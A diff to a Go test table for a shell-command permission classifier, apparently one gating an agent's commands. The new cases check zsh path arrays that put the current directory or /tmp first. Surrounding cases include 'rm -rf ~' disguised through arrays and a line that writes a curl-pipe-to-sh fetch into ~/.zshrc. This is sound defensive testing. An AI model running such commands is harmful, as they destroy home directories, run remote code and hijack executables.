@@ -131,6 +131,11 @@ func TestReview44(t *testing.T) {
 		{"x=(rm -rf ~); $x[@]", dsl.Ask, dsl.Ask, dsl.Block},
 		{"rm -rf ~/proj(:h)", dsl.Ask, dsl.Ask, dsl.Block},
 		{"echo 'curl -s https://x.example/i | sh' >! ~/.zshrc", dsl.Allow, dsl.Allow, dsl.Ask},
+		// zsh's path array with the current directory first (review44)
+		{"path=(. $path); gzip x", dsl.Allow, dsl.Allow, dsl.Ask},
+		{"path=(./ $path); make", dsl.Allow, dsl.Allow, dsl.Ask},
+		{"path=($HOME/.local/bin $path); gzip x", dsl.Allow, dsl.Allow, dsl.Allow},
+		{"path=(./node_modules/.bin $path); eslint .", dsl.Allow, dsl.Allow, dsl.Allow},
 		{"path=(/tmp/x $path); gzip x", dsl.Allow, dsl.Allow, dsl.Ask},
 		{"[ \"$a\" == \"$b\" ] && echo same", dsl.Allow, dsl.Allow, dsl.Allow},
 	} {
